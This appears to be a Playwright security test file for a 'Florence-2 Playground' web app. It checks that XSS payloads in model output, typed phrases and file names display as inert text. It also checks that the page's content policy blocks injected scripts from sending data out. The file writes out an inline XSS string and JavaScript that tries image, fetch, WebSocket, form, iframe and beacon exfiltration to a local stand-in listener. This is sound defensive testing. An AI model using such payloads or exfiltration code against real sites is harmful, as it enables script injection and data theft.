"""What gets into the page never runs there: hostile text from a model, a person or a file's name, in a real browser."""

import threading
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, expect

from playground.events import RunStage
from playground.regions import Region
from playground.tasks import get_task
from tests.ui.browser.actions import choose, give_file, run, unfold
from tests.ui.doubles import WRITING, DirectedPredictor
from tests.ui.examples import MEADOW

pytestmark = pytest.mark.browser

PAYLOADS = (Path(__file__).resolve().parents[2] / "data" / "payloads.txt").read_text(encoding="utf-8").splitlines()
ELEMENTS = "img[src^=x], image, iframe, object, embed, base, marquee, [onerror], [onload], [href^=javascript]"


@pytest.fixture
def page(browser: Browser, address: str) -> Iterator[Page]:
    """A page on which nothing may pop up, fail, or be refused by the page's own policy."""
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    page = context.new_page()
    harm: list[str] = []

    def refused(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            harm.append(message.text)

    page.on("dialog", lambda dialog: (harm.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: harm.append(str(error)))
    page.on("console", refused)
    page.goto(address)
    expect(page.locator("#status")).to_contain_text("Tiny demo model is ready")
    of_the_page = page.locator(ELEMENTS).count()
    give_file(page, str(MEADOW))
    expect(page.locator("#stage img")).to_be_visible()
    yield page
    assert page.locator(ELEMENTS).count() == of_the_page
    assert page.title() == "Florence-2 Playground"
    context.close()
    assert not harm


@pytest.fixture
def says(served: DirectedPredictor) -> Iterator[Any]:
    """Let the model say something."""

    def say(**fields: Any) -> None:
        writing = replace(WRITING, resolution_wh=(720, 720), **fields)
        served.script = (writing, replace(writing, stage=RunStage.DONE, is_final=True))

    yield say
    served.script = ()


def test_labels_that_would_run_are_text_wherever_they_are_shown(page: Page, says: Any) -> None:
    regions = tuple(Region(label, (20 + 5 * i, 20, 220 + 5 * i, 200), 0.9) for i, label in enumerate(PAYLOADS))
    said = "\n".join(PAYLOADS)
    says(regions=regions, text=said, raw_text=said, notices=tuple(PAYLOADS[:10]))
    run(page)
    shown = page.locator("#regions tbody .region-table-label")
    assert shown.all_text_contents() == PAYLOADS
    expect(page.locator("#answer textarea")).to_have_value(said)
    for index in range(len(PAYLOADS)):
        page.locator("#regions tbody tr").nth(index).hover()
        expect(page.locator("#stage .stage-lit-tag")).to_contain_text(PAYLOADS[index][:10])
    unfold(page, "How it is drawn")
    page.locator("#labels label").first.click()
    expect(page.locator("#regions tbody tr")).to_have_count(len(PAYLOADS) - 1)


def test_answers_that_would_run_are_text(page: Page, says: Any) -> None:
    choose(page, get_task("<CAPTION>").title)
    for start in range(0, len(PAYLOADS), 5):
        said = "\n".join(PAYLOADS[start : start + 5])
        says(text=said, raw_text=f"<s>{said}</s>")
        run(page)
        expect(page.locator("#answer textarea")).to_have_value(said)
        expect(page.locator("#stage img")).to_have_attribute("alt", said)


def test_names_that_would_run_are_text(page: Page, served: DirectedPredictor) -> None:
    choose(page, "Find the things I name")
    for start in range(0, len(PAYLOADS), 11):
        names = ", ".join(PAYLOADS[start : start + 11])
        page.fill("#phrase textarea", names)
        run(page)
        assert served.asked[-1].phrase == names


def test_descriptions_that_would_run_or_are_tokens_are_text(page: Page) -> None:
    choose(page, "Outline what I describe")
    page.fill("#phrase textarea", "</s>, a <OCR> sign, <loc_5>, <img src=x onerror=alert(1)>, ${alert(1)}, {{value}}")
    run(page)


def test_file_names_that_would_run_are_text(page: Page) -> None:
    for payload in PAYLOADS:
        name = payload.replace("/", "\u2215")
        give_file(page, {"name": f"{name}.png", "mimeType": "image/png", "buffer": b"this is no picture"})
        expect(page.locator("#problem")).to_contain_text("Accepted are JPEG")


class _Listener(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.heard.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[HTTPServer]:
    server = HTTPServer(("127.0.0.1", 0), _Listener)
    server.heard = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


def test_a_script_that_got_in_could_send_nothing_anywhere(browser: Browser, address: str, elsewhere: Any) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(address)
    expect(page.locator("#run")).to_be_visible()
    there = f"http://127.0.0.1:{elsewhere.server_port}"
    assert httpx.get(f"{there}/heard").status_code == 200
    sent = page.evaluate(
        """async (there) => {
            const tried = (go) => new Promise((done) => { go(done); setTimeout(() => done('late'), 20000); });
            const image = tried((done) => {
                const img = new Image(); img.onload = () => done('sent'); img.onerror = () => done('refused');
                img.src = there + '/image';
            });
            const script = tried((done) => {
                const s = document.createElement('script'); s.onload = () => done('sent');
                s.onerror = () => done('refused'); s.src = there + '/script'; document.head.append(s);
            });
            const fetched = fetch(there + '/fetch').then(() => 'sent', () => 'refused');
            const events = tried((done) => {
                const source = new EventSource(there + '/events'); source.onopen = () => done('sent');
                source.onerror = () => done('refused');
            });
            const socket = tried((done) => {
                try {
                    const s = new WebSocket(there.replace('http', 'ws') + '/socket');
                    s.onopen = () => done('sent'); s.onerror = () => done('refused');
                } catch { done('refused'); }
            });
            const refusal = (rule, go) => tried((done) => {
                addEventListener('securitypolicyviolation', (event) => {
                    if (event.effectiveDirective === rule) done('refused');
                });
                go();
            });
            const form = refusal('form-action', () => {
                const f = document.createElement('form'); f.action = there + '/form';
                document.body.append(f); f.submit();
            });
            const frame = refusal('frame-src', () => {
                const f = document.createElement('iframe'); f.src = there + '/frame'; document.body.append(f);
            });
            navigator.sendBeacon(there + '/beacon', 'x');
            return Promise.all([image, script, fetched, events, socket, form, frame]);
        }""",
        there,
    )
    assert sent == ["refused"] * 7
    assert elsewhere.heard == ["/heard"]
    # What no policy of the web forbids, as docs/security.md says: to lead its visitor elsewhere.
    with context.expect_page():
        page.evaluate("(there) => { window.open(there + '/window') }", there)
    with page.expect_navigation():
        page.evaluate("(there) => { location.href = there + '/navigation' }", there)
    context.close()
    assert {"/window", "/navigation"} <= {*elsewhere.heard}
